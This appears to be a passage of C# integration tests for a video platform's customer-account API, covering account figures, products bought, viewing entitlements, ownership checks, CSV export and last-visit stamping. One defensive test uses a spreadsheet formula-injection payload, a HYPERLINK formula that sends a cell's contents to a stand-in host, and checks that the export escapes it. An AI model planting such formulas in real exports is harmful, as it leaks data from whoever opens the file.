using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using CleanPrepay.Application.Common.Contracts;
using CleanPrepay.Application.Customers;
using CleanPrepay.Application.Customers.GetCustomerAccount;
using CleanPrepay.Application.Customers.ListCustomerProducts;
using CleanPrepay.Application.Views;
using CleanPrepay.Domain.Accesses;
using CleanPrepay.Domain.Catalog;
using CleanPrepay.Domain.Customers;
using CleanPrepay.Domain.Monetary;
using CleanPrepay.Domain.Orders;
using CleanPrepay.Domain.Views;
using CleanPrepay.WebApi.IntegrationTests.Support;
using Microsoft.EntityFrameworkCore;

namespace CleanPrepay.WebApi.IntegrationTests;

/// <summary>
/// The back office's customer account (kinow-customer-accounts): the information tab, products
/// bought, viewing statistics, the CSV export for a CRM, and the last visit.
/// </summary>
public abstract class CustomerAccountTests(ApiFixture api)
{
    private const string ExportHeader = "id,email,name,language,country,status,newsletter,optIn,registeredAt,lastVisitAt";

    private readonly HttpClient _admin = api.Admin();
    private readonly Given _given = new(api);

    // ---- Account view -------------------------------------------------------------------------

    [Fact]
    public async Task Account_view_counts_paid_orders_distinct_videos_watched_seconds_and_accesses_active_now()
    {
        var customer = await _admin.CreateCustomerAsync();
        var other = await _admin.CreateCustomerAsync();
        var v1 = await SeedVideoAsync("Account A");
        var v2 = await SeedVideoAsync("Account B");
        var now = api.Clock.GetUtcNow();

        await SeedOrderAsync(customer, OrderStatus.Paid, now.AddDays(-3), Rent(v1));
        await SeedOrderAsync(customer, OrderStatus.Paid, now.AddDays(-2), Buy(v2), Plan("pln_account"));
        await SeedOrderAsync(customer, OrderStatus.Refunded, now.AddDays(-1), Buy(v1));
        await SeedOrderAsync(customer, OrderStatus.Pending, now, Rent(v2));
        await SeedOrderAsync(customer, OrderStatus.Failed, now, Rent(v2));
        await SeedOrderAsync(other, OrderStatus.Paid, now, Rent(v1));

        await SeedViewsAsync(
            ViewRecord.Record(customer, v1, 100, now.AddHours(-5)),
            ViewRecord.Record(customer, v1, 50, now.AddHours(-4)),
            ViewRecord.Record(customer, v2, 30, now.AddHours(-3)),
            ViewRecord.Record(other, v2, 999, now.AddHours(-3)));

        var revoked = Access.Grant(customer, AccessKind.Manual, v2, null, null, now.AddDays(-1), null, "goodwill", "admin:ops");
        revoked.Revoke(now.AddHours(-1));
        await SeedAccessesAsync(
            Access.Grant(customer, AccessKind.Rental, v1, null, null, now.AddHours(-1), now.AddHours(47)),
            Access.Grant(customer, AccessKind.Purchase, v2, null, null, now.AddDays(-2), null),
            Access.Grant(customer, AccessKind.Rental, v2, null, null, now.AddDays(-3), now.AddDays(-1)),
            Access.Grant(customer, AccessKind.Subscription, null, "pln_later", null, now.AddDays(1), now.AddDays(31)),
            revoked,
            Access.Grant(other, AccessKind.Purchase, v1, null, null, now.AddDays(-2), null));

        var account = await _admin.GetJsonAsync($"/v1/customers/{customer}/account");
        var profile = await _admin.GetJsonAsync($"/v1/customers/{customer}");

        Assert.Equal(HttpStatusCode.OK, account.Status);
        var figures = account.As<CustomerAccountDto>();
        Assert.Equal(2, figures.ValidOrders);
        Assert.Equal(2, figures.VideosViewed);
        Assert.Equal(180, figures.TotalWatchedSeconds);
        Assert.Equal(2, figures.ActiveAccesses);
        // Every field of the profile, the same as GET /v1/customers/{id} answers: compared as raw JSON, field by field.
        foreach (var (key, value) in profile.Json.AsObject())
        {
            Assert.True(JsonNode.DeepEquals(value, account.Json[key]), $"{key}: {value?.ToJsonString()} vs {account.Json[key]?.ToJsonString()}");
        }

        Assert.Equal(CustomerStatus.Active, figures.Status);
        Assert.Equal("SE", figures.Country);
        Assert.Null(figures.LastVisitAt);
    }

    [Fact]
    public async Task A_new_customers_account_view_has_zero_figures_and_an_unknown_customer_is_404()
    {
        var (customer, client) = await _given.CustomerAsync();

        var mine = await client.GetJsonAsync($"/v1/customers/{customer}/account");
        var unknown = await _admin.GetJsonAsync("/v1/customers/cus_00000000000000000000000000000000/account");

        Assert.Equal(HttpStatusCode.OK, mine.Status);
        var figures = mine.As<CustomerAccountDto>();
        Assert.Equal(0, figures.ValidOrders);
        Assert.Equal(0, figures.VideosViewed);
        Assert.Equal(0, figures.TotalWatchedSeconds);
        Assert.Equal(0, figures.ActiveAccesses);
        Assert.Equal(HttpStatusCode.NotFound, unknown.Status);
        Assert.Equal("not_found", unknown.Code);
    }

    // ---- Products bought ----------------------------------------------------------------------

    [Fact]
    public async Task Products_bought_lists_each_item_of_paid_orders_once_with_its_first_purchase_and_count()
    {
        var (customer, client) = await _given.CustomerAsync();
        var v1 = await SeedVideoAsync("Products A");
        var v2 = await SeedVideoAsync("Products B");
        var t1 = new DateTimeOffset(2026, 1, 10, 9, 30, 0, TimeSpan.Zero);
        var t2 = new DateTimeOffset(2026, 2, 11, 18, 0, 0, TimeSpan.Zero);
        await SeedOrderAsync(customer, OrderStatus.Paid, t1, Rent(v1, "Products A, old title (rent)"));
        await SeedOrderAsync(customer, OrderStatus.Paid, t2, Rent(v1, "Products A (rent)"), Plan("pln_products"));
        await SeedOrderAsync(customer, OrderStatus.Refunded, t2.AddDays(1), Buy(v2));
        await SeedOrderAsync(customer, OrderStatus.Pending, t2.AddDays(2), Package("pkg_products"));
        await SeedOrderAsync(customer, OrderStatus.Failed, t2.AddDays(3), Buy(v1));

        var products = await client.GetJsonAsync($"/v1/customers/{customer}/products");

        Assert.Equal(HttpStatusCode.OK, products.Status);
        var page = products.As<Page<CustomerProductDto>>();
        Assert.Null(page.NextCursor);
        var items = page.Items;
        Assert.Equal(2, items.Count);
        // Newest first: the plan was first bought at t2, the rental at t1. The instants are read raw: they go out in UTC with a Z.
        var instants = products.Json["items"]!.AsArray().Select(i => i!["firstBoughtAt"]!.GetValue<string>()).ToList();
        Assert.Equal(OrderItemKind.Plan, items[0].Kind);
        Assert.Equal("pln_products", items[0].ItemId);
        Assert.Equal("2026-02-11T18:00:00Z", instants[0]);
        Assert.Equal(1, items[0].TimesBought);
        Assert.Equal(OrderItemKind.VideoRent, items[1].Kind);
        Assert.Equal(v1, items[1].ItemId);
        Assert.Equal("Products A (rent)", items[1].Description);
        Assert.Equal("2026-01-10T09:30:00Z", instants[1]);
        Assert.Equal(2, items[1].TimesBought);

        var first = (await _admin.GetJsonAsync($"/v1/customers/{customer}/products?limit=1")).As<Page<CustomerProductDto>>();
        var second = (await _admin.GetJsonAsync($"/v1/customers/{customer}/products?limit=1&cursor={first.NextCursor}")).As<Page<CustomerProductDto>>();
        Assert.Equal("pln_products", Assert.Single(first.Items).ItemId);
        Assert.Equal(v1, Assert.Single(second.Items).ItemId);
        Assert.Null(second.NextCursor);
        Assert.Equal("validation_failed", (await _admin.GetJsonAsync($"/v1/customers/{customer}/products?limit=201")).Code);
    }

    // ---- Viewing statistics -------------------------------------------------------------------

    [Fact]
    public async Task A_view_is_refused_without_an_active_access_to_the_video_and_changes_nothing()
    {
        var (customer, client) = await _given.CustomerAsync();
        var video = await SeedVideoAsync("Views refused");
        var elsewhere = await SeedVideoAsync("Views elsewhere");
        var now = api.Clock.GetUtcNow();
        await SeedAccessesAsync(
            Access.Grant(customer, AccessKind.Rental, video, null, null, now.AddDays(-3), now.AddDays(-1)),
            Access.Grant(customer, AccessKind.Purchase, elsewhere, null, null, now.AddDays(-3), null),
            Access.Grant(customer, AccessKind.Manual, video, null, null, now.AddDays(1), null),
            Access.Grant(customer, AccessKind.Subscription, null, "pln_future", null, now.AddDays(1), now.AddDays(30)));

        var refused = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 60 });

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
        Assert.Equal("not_entitled", refused.Code);
        Assert.Equal("application/problem+json", refused.ContentType);
        Assert.Equal(0, await api.WithDbAsync(db => db.Views.CountAsync(v => v.CustomerId == customer)));
    }

    [Theory]
    [InlineData(AccessKind.Rental, true, false)]
    [InlineData(AccessKind.Purchase, true, false)]
    [InlineData(AccessKind.Manual, true, false)]
    [InlineData(AccessKind.Subscription, false, true)]
    [InlineData(AccessKind.Manual, false, true)]
    public async Task A_view_is_recorded_with_an_active_access_to_the_video_or_to_the_catalogue(AccessKind kind, bool forTheVideo, bool withPlan)
    {
        var (customer, client) = await _given.CustomerAsync();
        var video = await SeedVideoAsync("Views accepted");
        var now = api.Clock.GetUtcNow();
        // A plan's access opens what the plan covers (ADR 0028): a real all-videos plan, the default.
        var plan = withPlan ? await _admin.CreatePlanAsync() : null;
        await SeedAccessesAsync(Access.Grant(
            customer, kind, forTheVideo ? video : null, plan, null, now.AddMinutes(-5), kind == AccessKind.Purchase ? null : now.AddDays(2)));

        var view = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 1500 });

        Assert.Equal(HttpStatusCode.Created, view.Status);
        var recorded = view.As<ViewDto>();
        Assert.StartsWith("viw_", recorded.Id, StringComparison.Ordinal);
        Assert.Equal(video, recorded.VideoId);
        Assert.Equal(1500, recorded.Seconds);
        Assert.InRange(recorded.RecordedAt, now, api.Clock.GetUtcNow());
        var stored = await api.WithDbAsync(db => db.Views.AsNoTracking().SingleAsync(v => v.CustomerId == customer));
        Assert.Equal((video, 1500), (stored.VideoId, stored.Seconds));
        var account = (await client.GetJsonAsync($"/v1/customers/{customer}/account")).As<CustomerAccountDto>();
        Assert.Equal(1, account.VideosViewed);
        Assert.Equal(1500, account.TotalWatchedSeconds);
    }

    [Fact]
    public async Task A_manual_grant_of_one_other_video_does_not_open_the_catalogue()
    {
        var (customer, client) = await _given.CustomerAsync();
        var video = await SeedVideoAsync("Views single grant");
        var other = await SeedVideoAsync("Views other grant");
        var now = api.Clock.GetUtcNow();
        await SeedAccessesAsync(Access.Grant(customer, AccessKind.Manual, other, null, null, now.AddMinutes(-5), null));

        var refused = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 10 });

        Assert.Equal("not_entitled", refused.Code);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(-5)]
    [InlineData(86_401)]
    [InlineData(null)]
    public async Task Seconds_out_of_1_to_86400_are_a_validation_failure(int? seconds)
    {
        var (customer, client) = await _given.CustomerAsync();
        var video = await SeedVideoAsync("Views seconds");
        await SeedAccessesAsync(Access.Grant(customer, AccessKind.Purchase, video, null, null, api.Clock.GetUtcNow().AddMinutes(-1), null));

        var refused = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds });
        var noVideo = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { seconds = 10 });

        Assert.Equal(HttpStatusCode.BadRequest, refused.Status);
        Assert.Equal("validation_failed", refused.Code);
        Assert.Contains("seconds", refused.Json["errors"]!.AsObject().Select(e => e.Key));
        Assert.Equal(HttpStatusCode.BadRequest, noVideo.Status);
        Assert.Contains("videoId", noVideo.Json["errors"]!.AsObject().Select(e => e.Key));
        Assert.Equal(0, await api.WithDbAsync(db => db.Views.CountAsync(v => v.CustomerId == customer)));
        Assert.Equal(HttpStatusCode.Created, (await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 1 })).Status);
        Assert.Equal(HttpStatusCode.Created, (await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 86_400 })).Status);
    }

    [Fact]
    public async Task A_view_of_an_unknown_video_is_404_and_a_replayed_key_records_once()
    {
        var (customer, client) = await _given.CustomerAsync();
        var video = await SeedVideoAsync("Views replay");
        await SeedAccessesAsync(Access.Grant(customer, AccessKind.Purchase, video, null, null, api.Clock.GetUtcNow().AddMinutes(-1), null));

        var unknown = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = "vid_00000000000000000000000000000000", seconds = 10 });
        var key = Guid.NewGuid().ToString();
        var first = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 42 }, key);
        var replay = await client.PostJsonAsync($"/v1/customers/{customer}/views", new { videoId = video, seconds = 42 }, key);

        Assert.Equal(HttpStatusCode.NotFound, unknown.Status);
        Assert.Equal("not_found", unknown.Code);
        Assert.Equal(HttpStatusCode.Created, first.Status);
        Assert.Equal(HttpStatusCode.Created, replay.Status);
        Assert.Equal("true", replay.Raw.Headers.GetValues("Idempotent-Replayed").Single());
        Assert.Equal(first.As<ViewDto>().Id, replay.As<ViewDto>().Id);
        Assert.Equal(1, await api.WithDbAsync(db => db.Views.CountAsync(v => v.CustomerId == customer)));
    }

    // ---- Ownership ----------------------------------------------------------------------------

    [Fact]
    public async Task Another_customers_account_products_and_views_are_404()
    {
        var client = (await _given.CustomerAsync()).Client;
        var them = await _admin.CreateCustomerAsync();
        var video = await SeedVideoAsync("Ownership");
        await SeedAccessesAsync(Access.Grant(them, AccessKind.Purchase, video, null, null, api.Clock.GetUtcNow().AddMinutes(-1), null));

        var account = await client.GetJsonAsync($"/v1/customers/{them}/account");
        var products = await client.GetJsonAsync($"/v1/customers/{them}/products");
        var view = await client.PostJsonAsync($"/v1/customers/{them}/views", new { videoId = video, seconds = 10 });

        Assert.All(new[] { account, products, view }, r =>
        {
            Assert.Equal(HttpStatusCode.NotFound, r.Status);
            Assert.Equal("not_found", r.Code);
        });
        Assert.Equal(0, await api.WithDbAsync(db => db.Views.CountAsync(v => v.CustomerId == them)));
        Assert.Equal(HttpStatusCode.Unauthorized, (await api.CreateClient().GetAsync($"/v1/customers/{them}/account")).StatusCode);
    }

    // ---- CSV export ---------------------------------------------------------------------------

    [Fact]
    public async Task Export_is_a_csv_attachment_with_a_header_and_one_row_per_customer_in_id_order()
    {
        var created = await _admin.PostJsonAsync("/v1/customers", new
        {
            email = $"export-{Guid.NewGuid():N}@example.test", name = "Émile Zola, Jr.", language = "fr-FR", country = "FR", newsletter = true, optIn = false,
        });
        var profile = created.As<CustomerDto>();
        var id = profile.Id;
        // The CSV writes the instant as the JSON does, so that one is compared as the raw JSON text.
        var registeredAt = created.Json["registeredAt"]!.GetValue<string>();

        var (response, lines) = await ExportAsync(_admin, "/v1/customers/export");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType.CharSet);
        Assert.Equal("attachment; filename=\"customers.csv\"", string.Join(", ", response.Content.Headers.GetValues("Content-Disposition")));
        Assert.Equal(ExportHeader, lines[0]);
        Assert.Equal(await api.WithDbAsync(db => db.Customers.CountAsync()) + 1, lines.Count);
        var ids = lines.Skip(1).Select(l => ParseCsvLine(l)[0]).ToList();
        Assert.Equal(ids.Order(StringComparer.Ordinal), ids);
        var row = ParseCsvLine(lines.Single(l => l.StartsWith(id, StringComparison.Ordinal)));
        Assert.Equal(
            new[] { id, profile.Email, "Émile Zola, Jr.", "fr-FR", "FR", "active", "true", "false", registeredAt, "" },
            row);
        Assert.EndsWith("Z", row[8], StringComparison.Ordinal);
        Assert.Contains($"{id},{profile.Email},\"Émile Zola, Jr.\",fr-FR,FR,active,true,false,", lines.Single(l => l.StartsWith(id, StringComparison.Ordinal)), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_filters_by_newsletter_opt_in_and_status()
    {
        var subscribed = await CreateCustomerAsync(newsletter: true, optIn: false);
        var optedIn = await CreateCustomerAsync(newsletter: false, optIn: true);
        var neither = await CreateCustomerAsync(newsletter: false, optIn: false);
        var inactive = await CreateCustomerAsync(newsletter: true, optIn: true);
        Assert.Equal(HttpStatusCode.OK, (await _admin.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{inactive}", new { status = "inactive" })).Status);

        var newsletter = await ExportRowsAsync("/v1/customers/export?newsletter=true");
        var optIn = await ExportRowsAsync("/v1/customers/export?optIn=true");
        var inactiveOnly = await ExportRowsAsync("/v1/customers/export?status=inactive");
        var activeNewsletterAndOptIn = await ExportRowsAsync("/v1/customers/export?status=active&newsletter=true&optIn=true");

        Assert.All(newsletter, r => Assert.Equal("true", r[6]));
        Assert.Equal(await api.WithDbAsync(db => db.Customers.CountAsync(c => c.Newsletter)), newsletter.Count);
        Assert.Contains(subscribed, newsletter.Select(r => r[0]));
        Assert.Contains(inactive, newsletter.Select(r => r[0]));
        Assert.DoesNotContain(optedIn, newsletter.Select(r => r[0]));
        Assert.DoesNotContain(neither, newsletter.Select(r => r[0]));

        Assert.All(optIn, r => Assert.Equal("true", r[7]));
        Assert.Equal(await api.WithDbAsync(db => db.Customers.CountAsync(c => c.OptIn)), optIn.Count);
        Assert.Contains(optedIn, optIn.Select(r => r[0]));
        Assert.DoesNotContain(subscribed, optIn.Select(r => r[0]));

        Assert.All(inactiveOnly, r => Assert.Equal("inactive", r[5]));
        Assert.Contains(inactive, inactiveOnly.Select(r => r[0]));
        Assert.Equal(await api.WithDbAsync(db => db.Customers.CountAsync(c => c.Status == CustomerStatus.Inactive)), inactiveOnly.Count);

        Assert.All(activeNewsletterAndOptIn, r => Assert.Equal(("active", "true", "true"), (r[5], r[6], r[7])));
        Assert.DoesNotContain(inactive, activeNewsletterAndOptIn.Select(r => r[0]));
    }

    [Fact]
    public async Task Export_is_for_the_back_office_only_and_a_bad_filter_is_400()
    {
        var (_, client) = await _given.CustomerAsync();

        var asCustomer = await client.GetJsonAsync("/v1/customers/export");
        var anonymous = await api.CreateClient().GetJsonAsync("/v1/customers/export");
        var badStatus = await _admin.GetJsonAsync("/v1/customers/export?status=deleted");
        var numericStatus = await _admin.GetJsonAsync("/v1/customers/export?status=1");
        var badBool = await _admin.GetJsonAsync("/v1/customers/export?newsletter=maybe");

        // 403, not the 404 that /v1/customers/{customerId} would answer: the literal route wins.
        Assert.Equal(HttpStatusCode.Forbidden, asCustomer.Status);
        Assert.Equal("forbidden", asCustomer.Code);
        Assert.Equal(HttpStatusCode.Unauthorized, anonymous.Status);
        Assert.All(new[] { badStatus, numericStatus, badBool }, r =>
        {
            Assert.Equal(HttpStatusCode.BadRequest, r.Status);
            Assert.Equal("validation_failed", r.Code);
        });
    }

    [Fact]
    public async Task Export_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped_with_a_quote()
    {
        var formula = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"Click\")";
        var hyperlink = await CreateCustomerAsync(name: formula);
        var plus = await CreateCustomerAsync(name: "+46 701 234 567");
        var minus = await CreateCustomerAsync(name: "-2+3");
        var at = await CreateCustomerAsync(name: "@SUM(1+1)");
        var plain = await CreateCustomerAsync(name: "Ada Lovelace");

        var (_, lines) = await ExportAsync(_admin, "/v1/customers/export");
        string Line(string id) => lines.Single(l => l.StartsWith(id, StringComparison.Ordinal));

        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"Click\"\")\",", Line(hyperlink), StringComparison.Ordinal);
        Assert.Equal("'" + formula, ParseCsvLine(Line(hyperlink))[2]);
        Assert.Equal("'+46 701 234 567", ParseCsvLine(Line(plus))[2]);
        Assert.Equal("'-2+3", ParseCsvLine(Line(minus))[2]);
        Assert.Equal("'@SUM(1+1)", ParseCsvLine(Line(at))[2]);
        Assert.Equal("Ada Lovelace", ParseCsvLine(Line(plain))[2]);
        // No cell anywhere starts with a formula character.
        Assert.All(lines.Skip(1).SelectMany(l => ParseCsvLine(l)), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
    }

    [Fact]
    public async Task Export_streams_every_customer_of_a_large_base()
    {
        const int Count = 5_000;
        var registeredAt = new DateTimeOffset(2025, 6, 1, 12, 0, 0, TimeSpan.Zero);
        var seeded = await api.WithDbAsync(async db =>
        {
            var customers = Enumerable.Range(0, Count)
                .Select(i => Customer.Register($"bulk-{Guid.NewGuid():N}@example.test", $"Bulk {i}", "en", "SE", i % 2 == 0, false, registeredAt))
                .ToList();
            db.Customers.AddRange(customers);
            await db.SaveChangesAsync();
            return customers.Select(c => c.Id).ToHashSet();
        });
        var total = await api.WithDbAsync(db => db.Customers.CountAsync());

        using var request = new HttpRequestMessage(HttpMethod.Get, "/v1/customers/export");
        using var response = await _admin.SendAsync(request, HttpCompletionOption.ResponseHeadersRead);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        // Streamed, not buffered: the length is not known when the headers go out.
        Assert.Null(response.Content.Headers.ContentLength);
        await using var body = await response.Content.ReadAsStreamAsync();
        using var reader = new StreamReader(body, Encoding.UTF8);
        Assert.Equal(ExportHeader, await reader.ReadLineAsync());
        var rows = 0;
        var found = 0;
        string? previous = null;
        while (await reader.ReadLineAsync() is { } line)
        {
            rows++;
            var id = line[..line.IndexOf(',', StringComparison.Ordinal)];
            Assert.True(previous is null || string.CompareOrdinal(previous, id) < 0, $"{previous} before {id}");
            previous = id;
            if (seeded.Contains(id))
            {
                found++;
                Assert.EndsWith(",2025-06-01T12:00:00Z,", line, StringComparison.Ordinal);
            }
        }

        Assert.Equal(total, rows);
        Assert.Equal(Count, found);
    }

    // ---- Last visit ---------------------------------------------------------------------------

    [Fact]
    public async Task Last_visit_is_stamped_by_the_customers_own_successful_calls_at_most_once_a_minute()
    {
        var (customer, client) = await _given.CustomerAsync();
        var other = await _admin.CreateCustomerAsync();

        // Staff calls are not the customer's visits.
        Assert.Equal(HttpStatusCode.OK, (await _admin.GetJsonAsync($"/v1/customers/{customer}")).Status);
        Assert.Equal(HttpStatusCode.OK, (await _admin.GetJsonAsync($"/v1/customers/{customer}/account")).Status);
        Assert.Equal(HttpStatusCode.OK, (await _admin.GetJsonAsync($"/v1/customers/{customer}/wallet")).Status);
        Assert.Null(await LastVisitAsync(customer));

        // A refused call is no visit either.
        Assert.Equal(HttpStatusCode.NotFound, (await client.GetJsonAsync($"/v1/customers/{other}/account")).Status);
        Assert.Null(await LastVisitAsync(customer));
        Assert.Null(await LastVisitAsync(other));

        var before = api.Clock.GetUtcNow();
        Assert.Equal(HttpStatusCode.OK, (await client.GetJsonAsync($"/v1/customers/{customer}/wallet")).Status);
        var first = await LastVisitAsync(customer);
        Assert.NotNull(first);
        Assert.InRange(first.Value, before.AddTicks(-10), api.Clock.GetUtcNow());
        var shown = await _admin.GetJsonAsync($"/v1/customers/{customer}/account");
        Assert.NotNull(shown.As<CustomerAccountDto>().LastVisitAt);

        // Within the minute: no further write.
        Assert.Equal(HttpStatusCode.OK, (await client.GetJsonAsync($"/v1/customers/{customer}/account")).Status);
        Assert.Equal(HttpStatusCode.OK, (await client.GetJsonAsync($"/v1/customers/{customer}")).Status);
        Assert.Equal(first, await LastVisitAsync(customer));

        // A minute on, the next visit moves it.
        api.Clock.Advance(TimeSpan.FromSeconds(61));
        Assert.Equal(HttpStatusCode.OK, (await _admin.GetJsonAsync($"/v1/customers/{customer}")).Status);
        Assert.Equal(first, await LastVisitAsync(customer));
        Assert.Equal(HttpStatusCode.OK, (await client.GetJsonAsync($"/v1/customers/{customer}")).Status);
        var second = await LastVisitAsync(customer);
        Assert.True(second >= first.Value.AddSeconds(61), $"{second:O} should be a minute after {first:O}");
    }

    [Fact]
    public async Task Stamping_the_last_visit_does_not_bump_the_profiles_version()
    {
        var (customer, client) = await _given.CustomerAsync();
        var version = await api.WithDbAsync(db => db.Customers.AsNoTracking().Where(c => c.Id == customer).Select(c => c.Version).SingleAsync());

        Assert.Equal(HttpStatusCode.OK, (await client.GetJsonAsync($"/v1/customers/{customer}")).Status);

        var after = await api.WithDbAsync(db => db.Customers.AsNoTracking().SingleAsync(c => c.Id == customer));
        Assert.NotNull(after.LastVisitAt);
        Assert.Equal(version, after.Version);
    }

    // ---- Who may change what (ADR 0029) -------------------------------------------------------

    [Fact]
    public async Task Emails_are_unique_without_case_on_create_and_on_change()
    {
        var local = $"Ann.{Guid.NewGuid():N}";
        var ann = await _admin.PostJsonAsync("/v1/customers", new { email = $"{local}@Example.test", name = "Ann", language = "en", country = "SE" });
        Assert.Equal(HttpStatusCode.Created, ann.Status);
        var other = await _admin.CreateCustomerAsync();

        var again = await _admin.PostJsonAsync("/v1/customers", new { email = $"  {local.ToLowerInvariant()}@example.TEST ", name = "Ann again", language = "en", country = "SE" });
        var changed = await _admin.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{other}", new { email = $"{local.ToUpperInvariant()}@EXAMPLE.test" });

        Assert.Equal((HttpStatusCode.Conflict, "conflict"), (again.Status, again.Code));
        Assert.Equal((HttpStatusCode.Conflict, "conflict"), (changed.Status, changed.Code));
        // The owner may change the case of their own address; it is kept as typed.
        var recased = await _admin.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{ann.As<CustomerDto>().Id}", new { email = $"{local.ToLowerInvariant()}@example.test" });
        Assert.Equal((HttpStatusCode.OK, $"{local.ToLowerInvariant()}@example.test"), (recased.Status, recased.As<CustomerDto>().Email));
    }

    [Fact]
    public async Task A_customer_changes_name_language_and_newsletter_but_not_email_or_country_and_learns_nothing_of_other_addresses()
    {
        var takenEmail = $"taken{Guid.NewGuid():N}@example.test";
        await _admin.CreateCustomerAsync(takenEmail);
        var ownEmail = $"own{Guid.NewGuid():N}@example.test";
        var (customer, self) = await _given.CustomerAsync(email: ownEmail);

        var toTaken = await self.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{customer}", new { email = takenEmail.ToUpperInvariant() });
        var toFree = await self.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{customer}", new { email = $"free{Guid.NewGuid():N}@example.test" });
        var country = await self.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{customer}", new { country = "DE" });

        // A taken and a free address get the same answer: nothing to learn from it.
        Assert.Equal((HttpStatusCode.Forbidden, "forbidden"), (toTaken.Status, toTaken.Code));
        Assert.Equal((toTaken.Status, toTaken.Code, toTaken.Body?["detail"]?.ToString()), (toFree.Status, toFree.Code, toFree.Body?["detail"]?.ToString()));
        Assert.Equal((HttpStatusCode.Forbidden, "forbidden"), (country.Status, country.Code));
        var profile = (await _admin.GetJsonAsync($"/v1/customers/{customer}")).As<CustomerDto>();
        Assert.Equal((ownEmail, "SE"), (profile.Email, profile.Country));

        // Their own fields, with the current email and country sent back unchanged, are theirs to change.
        var own = await self.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{customer}", new { name = "New Name", language = "fr", newsletter = true, email = ownEmail.ToUpperInvariant(), country = "se" });
        Assert.Equal(HttpStatusCode.OK, own.Status);
        var changed = own.As<CustomerDto>();
        Assert.Equal(("New Name", "fr", true, ownEmail, "SE"), (changed.Name, changed.Language, changed.Newsletter, changed.Email, changed.Country));
        // The back office changes the country and the email.
        var moved = await _admin.SendJsonAsync(HttpMethod.Patch, $"/v1/customers/{customer}", new { country = "DE", email = $"moved{Guid.NewGuid():N}@example.test" });
        Assert.Equal((HttpStatusCode.OK, "DE"), (moved.Status, moved.As<CustomerDto>().Country));
    }

    // ---- Helpers ------------------------------------------------------------------------------

    private static OrderLineDraft Rent(string videoId, string? description = null) =>
        new(OrderItemKind.VideoRent, videoId, description ?? "Rental", Money.Of(499, "EUR"), 1, 48);

    private static OrderLineDraft Buy(string videoId) => new(OrderItemKind.VideoBuy, videoId, "Purchase", Money.Of(1499, "EUR"), 5, null);

    private static OrderLineDraft Plan(string planId) => new(OrderItemKind.Plan, planId, "Monthly plan", Money.Of(999, "EUR"), null, null);

    private static OrderLineDraft Package(string packageId) => new(OrderItemKind.Package, packageId, "Credits pack", Money.Of(1000, "EUR"), null, null);

    private Task<string> SeedVideoAsync(string title) => api.WithDbAsync(async db =>
    {
        var price = new PriceList([Money.Of(499, "EUR")]);
        var video = Video.Create(title, new VideoOffer(price, 1, 48), new VideoOffer(new PriceList([Money.Of(1499, "EUR")]), 5, null), true, api.Clock.GetUtcNow());
        db.Videos.Add(video);
        await db.SaveChangesAsync();
        return video.Id;
    });

    /// <summary>An order placed at <paramref name="at"/> and brought to <paramref name="status"/> by the domain's own transitions.</summary>
    private Task<string> SeedOrderAsync(string customerId, OrderStatus status, DateTimeOffset at, params OrderLineDraft[] lines) => api.WithDbAsync(async db =>
    {
        // A prepayment package is paid through a gateway only (ADR 0026).
        var method = lines.Any(l => l.Kind == OrderItemKind.Package) ? OrderPaymentMethod.Gateway : OrderPaymentMethod.Wallet;
        var order = Order.Place(customerId, Currency.EUR, "SE", 2500, lines, method, at);
        switch (status)
        {
            case OrderStatus.Paid:
                Assert.True(order.MarkPaid(at).IsSuccess);
                break;
            case OrderStatus.Refunded:
                Assert.True(order.MarkPaid(at).IsSuccess);
                Assert.True(order.RecordRefund(order.Total.MinorUnits, 0, at).Value);
                break;
            case OrderStatus.Failed:
                Assert.True(order.MarkFailed(at).IsSuccess);
                break;
        }

        Assert.Equal(status, order.Status);
        db.Orders.Add(order);
        await db.SaveChangesAsync();
        return order.Id;
    });

    private Task SeedAccessesAsync(params Access[] accesses) => api.WithDbAsync(async db =>
    {
        db.Accesses.AddRange(accesses);
        return await db.SaveChangesAsync();
    });

    private Task SeedViewsAsync(params ViewRecord[] views) => api.WithDbAsync(async db =>
    {
        db.Views.AddRange(views);
        return await db.SaveChangesAsync();
    });

    private Task<DateTimeOffset?> LastVisitAsync(string customerId) =>
        api.WithDbAsync(db => db.Customers.AsNoTracking().Where(c => c.Id == customerId).Select(c => c.LastVisitAt).SingleAsync());

    private async Task<string> CreateCustomerAsync(string name = "Export Customer", bool newsletter = false, bool optIn = false)
    {
        var created = await _admin.PostJsonAsync("/v1/customers", new { email = $"x{Guid.NewGuid():N}@example.test", name, language = "en", country = "SE", newsletter, optIn });
        Assert.Equal(HttpStatusCode.Created, created.Status);
        return created.As<CustomerDto>().Id;
    }

    private static async Task<(HttpResponseMessage Response, List<string> Lines)> ExportAsync(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var text = await response.Content.ReadAsStringAsync();
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        return (response, text[..^2].Split("\r\n").ToList());
    }

